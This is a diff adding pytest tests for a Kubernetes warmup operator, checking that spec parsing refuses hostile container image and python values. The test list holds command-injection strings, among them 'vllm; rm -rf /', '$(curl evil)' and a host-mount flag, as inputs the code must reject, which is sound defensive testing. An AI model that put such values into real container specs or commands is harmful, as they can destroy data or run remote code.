@@ -1,0 +1,48 @@
+"""CR spec parsing refuses hostile container values itself (reliability: the CRD's patterns may be
+bypassed by a CR stored before a schema change)."""
+
+from __future__ import annotations
+
+import pytest
+
+from warmup_operator.core.kernelwarmup import SpecInvalid, parse_spec
+
+pytestmark = pytest.mark.reliability
+
+
+def spec_doc(**over):
+    base = {"targets": {"selector": {"matchLabels": {"app": "vllm"}}}, "model": {"configPath": "/models/m/config.json"}}
+    base.update(over)
+    return base
+
+
+HOSTILE_CONTAINER = [
+    ("image-semicolon", {"image": "vllm; rm -rf /"}, "spec.warmer.image"),
+    ("image-subshell", {"image": "$(curl evil)"}, "spec.warmer.image"),
+    ("image-backtick", {"image": "vllm:`id`"}, "spec.warmer.image"),
+    ("image-space", {"image": "vllm --privileged"}, "spec.warmer.image"),
+    ("image-newline", {"image": "vllm\nrm"}, "spec.warmer.image"),
+    ("image-leading-dash", {"image": "-v/:/host"}, "spec.warmer.image"),
+    ("image-pipe", {"image": "vllm|sh"}, "spec.warmer.image"),
+    ("bootstrap-image-amp", {"bootstrapImage": "boot&&id"}, "spec.warmer.bootstrapImage"),
+    ("python-args", {"python": "python3 -c 'import os'"}, "spec.warmer.python"),
+    ("python-semicolon", {"python": "python3;id"}, "spec.warmer.python"),
+    ("python-var", {"python": "$PYTHON"}, "spec.warmer.python"),
+    ("pull-policy", {"imagePullPolicy": "Sometimes"}, "spec.warmer.imagePullPolicy"),
+    ("image-not-string", {"image": ["vllm"]}, "spec.warmer.image"),
+]
+
+
+@pytest.mark.parametrize("case_id,warmer,field", HOSTILE_CONTAINER, ids=[c[0] for c in HOSTILE_CONTAINER])
+def test_hostile_container_values_are_refused_by_the_operator_itself(case_id, warmer, field):
+    """The CRD's patterns catch these at the API; a CR stored before a schema change (or
+    created with validation off) must still be refused here, naming the field."""
+    with pytest.raises(SpecInvalid) as ei:
+        parse_spec(spec_doc(warmer=warmer))
+    assert ei.value.field == field, str(ei.value)
+
+
+def test_valid_image_references_pass():
+    for ref in ("vllm/vllm-openai:v0.11.0", "registry.local:5000/a/b@sha256:" + "a" * 64, "ghcr.io/x/y_z-1.2:tag"):
+        assert parse_spec(spec_doc(warmer={"image": ref})).container.image == ref
+
